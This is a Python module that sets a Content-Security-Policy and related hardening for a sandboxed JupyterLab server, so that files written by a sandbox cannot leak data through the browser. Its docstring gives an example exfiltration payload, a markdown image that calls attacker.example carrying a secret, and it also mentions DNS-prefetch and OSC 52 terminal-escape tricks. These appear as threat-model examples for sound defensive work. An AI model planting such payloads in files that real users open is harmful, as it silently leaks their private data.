"""The Content-Security-Policy of the Jupyter server started by ``scripts/lab.sh``.

Why: the ratchet cuts the SANDBOX's network, but the browser has network too,
and it renders what sandboxes write. A private session can write its data
into the workspace as ``report.md`` holding
``![](https://attacker.example/?d=<secret>)``, into an ``.html`` file, an
``.svg``, or a notebook's markdown and outputs (the file on disk, not the
outputs the kernel sanitised on their way to the page). The user opens the
file in JupyterLab and the browser fetches the address: the data leaves
without a click. Cleaning every renderer's input is not possible (files are
the user's work and are served as they are), so the page itself is told not
to fetch anything from another origin:

- images, media, fonts, styles, scripts, frames and workers only from the
  server itself (and ``data:``/``blob:`` URLs, which Lab makes locally; no
  ``data:`` frames);
- ``fetch``/XHR/websockets only to the server itself;
- embedded objects only from ``blob:`` URLs (Lab's PDF viewer puts the file's
  bytes in one; the browser's viewer then runs a PDF's open actions and
  scripts, none of which reached the network in Chromium), no ``<base>``
  redirection, forms post only to the server;
- no DNS prefetching (``X-DNS-Prefetch-Control: off``), which CSP does not cover.

A file opened in a browser tab of its own (``/files/…``) or a notebook's
HTML from nbconvert get more: :mod:`sandbox_kernel.lab_file_tabs`. A workspace
file loaded into Lab restores only what Lab itself saves, and starts no host
shell: :mod:`sandbox_kernel.lab_workspaces`. The server's log escapes control
characters in what it logs (a file name a sandbox chose holding an OSC 52
sequence went to the terminal on every save of the file):
:class:`sandbox_kernel.terminal_text.TerminalSafeServerFormatter`. Exporting a
notebook imports nothing it names: :mod:`sandbox_kernel.lab_exports`. These
three apply whether the policy is on or not. An HTML export, a page the user
opens from disk where no server policy reaches, carries a policy of its own
and shows the notebook as Lab does (:mod:`sandbox_kernel.lab_html_exports`,
installed by ``lab_exports`` while the policy is on).

Scripts: only the server's own files, and the inline scripts the installed
pages ship (Lab's and Notebook 7's token removal), each allowed by its hash
(:func:`page_script_hashes`); no other inline script, event-handler
attribute or ``javascript:`` address runs. What a sandbox writes reaches the
page through sanitisers (the kernel's output policy for live outputs, which
Lab then shows as trusted; Lab's for files and saved notebooks; mermaid's,
MathJax's), and a script one of them let through would run in the Lab's
origin, where it can do whatever the page can: start a terminal on the host,
write the user's files, start kernels. This wall does not depend on the
sanitisers. Scripts keep ``'unsafe-eval'``: Lab compiles its settings'
schemas at run time (ajv). One renderer evaluates an output's text itself,
Lab's JavaScript output renderer (``@jupyterlab/javascript-extension``,
``eval`` of an ``application/javascript`` output shown as trusted): the page
config tells the lab extension, which shows a note in that renderer's place
(:func:`without_output_scripts`), so an output's script runs in no form. The
cost: scripts in what the user trusts (JupyterLab's "Trust HTML",
``SandboxKernel.trust_outputs``, a notebook they trusted) do not run either;
a frame of a ``blob:`` document, as Lab's HTML viewer makes, inherits the
page's policy.

What stays possible: a link the user clicks (navigation is not governed by
CSP; outputs of private sessions have their links defanged, files do not),
and everything a server-side extension fetches for itself.

``SANDBOX_KERNEL_REMOTE_CONTENT=1`` leaves the server's own default policy
(remote images in markdown, CDN widgets, scripts in trusted HTML) and
nbconvert's HTML exports, for a Lab whose users accept that a private
session's files can then send its data out when opened, and that a script a
sanitiser missed runs with the page's powers.
"""

from __future__ import annotations

import functools
import importlib.util
import os
import site
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .page_scripts import read_page, script_hash

#: the signature of jupyterlab_server's ``page_config_hook`` setting
PageConfigHook = Callable[[Any, dict[str, Any]], dict[str, Any]]

#: the environment variable that turns the policy off (``1``, ``true``, ``yes``, ``on``)
REMOTE_CONTENT_ENV = "SANDBOX_KERNEL_REMOTE_CONTENT"

#: the server extension that rewrites what /files and /nbconvert send to a tab
FILE_TABS_EXTENSION = "sandbox_kernel.lab_file_tabs"
#: the Jupyter server's console log formatter (what a sandbox named, escaped)
SERVER_LOG_FORMATTER = "sandbox_kernel.terminal_text.TerminalSafeServerFormatter"
#: the server extension that stores workspaces without what would start host processes
WORKSPACES_EXTENSION = "sandbox_kernel.lab_workspaces"
#: the server extension that refuses exports which would import what a notebook names
EXPORTS_EXTENSION = "sandbox_kernel.lab_exports"
#: moves and copies in the file browser keep the ratchet's folder levels
FOLDER_MOVES_EXTENSION = "sandbox_kernel.lab_folder_moves"
#: saves and checkpoints write through no link a sandbox could have moved
SAVES_EXTENSION = "sandbox_kernel.lab_saves"
#: JupyterLab's language-server bridge: it starts, on the host, any language
#: server installed (pylsp, pyright...) on the folders sandboxes write, which
#: read their configuration there and may run what it names (pylint's
#: ``load-plugins``, jedi importing a compiled module to inspect it). Off,
#: unless :data:`LANGUAGE_SERVERS_ENV` is set (``1``).
LSP_EXTENSION = "jupyter_lsp"
LANGUAGE_SERVERS_ENV = "SANDBOX_KERNEL_LANGUAGE_SERVERS"

#: packages whose HTML pages a Jupyter server serves: the server's own (login,
#: errors), jupyterlab_server's defaults, JupyterLab's, Notebook 7's
PAGE_PACKAGES = ("jupyter_server", "jupyterlab_server", "jupyterlab", "notebook")

_LOCAL = "'self' data: blob:"
#: a template's script holding these is rendered per request: no fixed hash
_TEMPLATE_SYNTAX = ("{{", "{%", "{#")


def page_templates() -> list[Path]:
    """The HTML pages (templates) of :data:`PAGE_PACKAGES` that are installed,
    and of JupyterLab's application folders (where ``jupyter lab build``
    writes its page)."""
    folders: list[Path] = []
    for name in PAGE_PACKAGES:
        spec = importlib.util.find_spec(name)
        for location in (spec.submodule_search_locations or []) if spec else []:
            folders += [Path(location) / "templates", Path(location) / "static"]
    app_dirs = [os.environ.get("JUPYTERLAB_DIR", ""), os.path.join(sys.prefix, "share", "jupyter", "lab")]
    app_dirs += [os.path.join(site.getuserbase(), "share", "jupyter", "lab"), "/usr/local/share/jupyter/lab"]
    folders += [Path(app_dir) / "static" for app_dir in app_dirs if app_dir]
    return sorted({page for folder in folders if folder.is_dir() for page in folder.glob("*.html")})


@functools.cache
def page_script_hashes() -> tuple[str, ...]:
    """The CSP sources that allow the inline scripts of :func:`page_templates`
    (Lab's token removal), by hash. A script whose text the template fills in
    per request is left out: it does not run (jupyterlab_server's error page
    scrolls its traceback with one)."""
    hashes: set[str] = set()
    for template in page_templates():
        try:
            text = template.read_text(encoding="utf-8")
        except (OSError, UnicodeDecodeError):
            continue
        for script in read_page(text).inline_scripts:
            if not any(mark in script for mark in _TEMPLATE_SYNTAX):
                hashes.add(script_hash(script))
    return tuple(sorted(hashes))


#: the page config option that tells the lab extension the policy is on, and
#: what it does then: JavaScript outputs are shown as a note, not run
#: (labextension/src/outputScripts.ts; the policy cannot stop ``eval``)
OUTPUT_SCRIPTS_OPTION = "sandboxKernelOutputScripts"


def without_output_scripts(hook: PageConfigHook | None = None) -> PageConfigHook:
    """A ``page_config_hook`` (the setting JupyterLab's and Notebook 7's page
    handlers call on each page's config) that sets :data:`OUTPUT_SCRIPTS_OPTION`
    to ``off``, after ``hook`` (one configured before) made its changes."""

    def page_config_hook(handler: Any, page_config: dict[str, Any]) -> dict[str, Any]:
        if hook is not None:
            page_config = hook(handler, page_config)
        page_config[OUTPUT_SCRIPTS_OPTION] = "off"
        return page_config

    return page_config_hook


def content_security_policy(base_url: str = "/") -> str:
    """The policy's header value; violations are reported to jupyter_server's
    own endpoint (logged by the server), under ``base_url``."""
    base = base_url if base_url.endswith("/") else base_url + "/"
    directives = [
        "default-src 'self'",
        " ".join(["script-src 'self' 'unsafe-eval' blob:", *page_script_hashes()]),
        f"style-src {_LOCAL} 'unsafe-inline'",
        f"img-src {_LOCAL}",
        f"media-src {_LOCAL}",
        f"font-src {_LOCAL}",
        # no data: frames: a document in a data: URL is one no Lab code checks
        # for resource hints (labextension/src/htmlHints.ts)
        "frame-src 'self' blob:",
        "worker-src 'self' blob:",
        "connect-src 'self'",
        # Lab's PDF viewer: an <object> of a blob: URL it makes of the file
        "object-src blob:",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'self'",
        f"report-uri {base}api/security/csp-report",
    ]
    return "; ".join(directives)


def remote_content_allowed(environ: dict[str, str] | None = None) -> bool:
    """Whether the user turned the policy off (see the module's docstring)."""
    return _switched_on(REMOTE_CONTENT_ENV, environ)


def _switched_on(name: str, environ: dict[str, str] | None = None) -> bool:
    return (os.environ if environ is None else environ).get(name, "").strip().lower() in {"1", "true", "yes", "on"}


def apply(config: Any) -> None:
    """Set the policy on a Jupyter server's config (``c`` of a config file),
    keeping other headers already configured, tell the lab extension through
    the page config (a ``page_config_hook`` after one configured before), and load
    :mod:`sandbox_kernel.lab_file_tabs`; whatever the policy, load
    :mod:`sandbox_kernel.lab_workspaces` (workspace files start host processes,
    not fetches), :mod:`sandbox_kernel.lab_exports` (an export imports what
    a notebook names), :mod:`sandbox_kernel.lab_folder_moves` (a moved
    folder keeps the ratchet's level) and :mod:`sandbox_kernel.lab_saves`
    (a save follows no link a sandbox moved), turn off ``jupyter_lsp``
    (language servers on the host read what sandboxes wrote), and escape the server's log (paths a sandbox named reach the
    terminal that runs the server).
    ``ServerApp.tornado_settings`` and ``jpserver_extensions`` are dict traits:
    a config file sets each whole, so this merges into them."""
    server = config.ServerApp
    _enable_extension(server, WORKSPACES_EXTENSION)
    _enable_extension(server, EXPORTS_EXTENSION)
    _enable_extension(server, FOLDER_MOVES_EXTENSION)
    _enable_extension(server, SAVES_EXTENSION)
    if not _switched_on(LANGUAGE_SERVERS_ENV):
        _enable_extension(server, LSP_EXTENSION, False)
    # the server's log, and each extension's (LabApp's, NotebookApp's): their own handlers
    _escape_the_log(server)
    _escape_the_log(config.ExtensionApp)
    if remote_content_allowed():
        return
    settings = dict(server.tornado_settings) if "tornado_settings" in server else {}
    headers = dict(settings.get("headers", {}))
    base_url = server.base_url if "base_url" in server else "/"
    headers["Content-Security-Policy"] = content_security_policy(base_url)
    # CSP does not govern DNS prefetching: a page naming <secret>.attacker.example
    # would send the name to a resolver. Chromium honours this header (not
    # tested here: the tests resolve no name).
    headers["X-DNS-Prefetch-Control"] = "off"
    settings["headers"] = headers
    settings["page_config_hook"] = without_output_scripts(settings.get("page_config_hook"))
    server.tornado_settings = settings
    # Files opened in a tab of their own get a stricter sandbox and no
    # resource hints (sandbox_kernel/lab_file_tabs.py).
    _enable_extension(server, FILE_TABS_EXTENSION)


def _escape_the_log(app: Any) -> None:
    """The application's console log escapes control characters in what it logs
    (paths a sandbox named: :class:`sandbox_kernel.terminal_text.TerminalSafeServerFormatter`)."""
    logging_config = dict(app.logging_config) if "logging_config" in app else {}
    formatters = dict(logging_config.get("formatters", {}))
    formatters["console"] = {**formatters.get("console", {}), "class": SERVER_LOG_FORMATTER}
    logging_config["formatters"] = formatters
    app.logging_config = logging_config


def _enable_extension(server: Any, name: str, enabled: bool = True) -> None:
    extensions = dict(server.jpserver_extensions) if "jpserver_extensions" in server else {}
    extensions[name] = enabled
    server.jpserver_extensions = extensions


__all__ = [
    "EXPORTS_EXTENSION",
    "FILE_TABS_EXTENSION",
    "FOLDER_MOVES_EXTENSION",
    "LANGUAGE_SERVERS_ENV",
    "LSP_EXTENSION",
    "OUTPUT_SCRIPTS_OPTION",
    "PAGE_PACKAGES",
    "REMOTE_CONTENT_ENV",
    "SAVES_EXTENSION",
    "SERVER_LOG_FORMATTER",
    "WORKSPACES_EXTENSION",
    "apply",
    "content_security_policy",
    "page_script_hashes",
    "page_templates",
    "remote_content_allowed",
    "without_output_scripts",
]
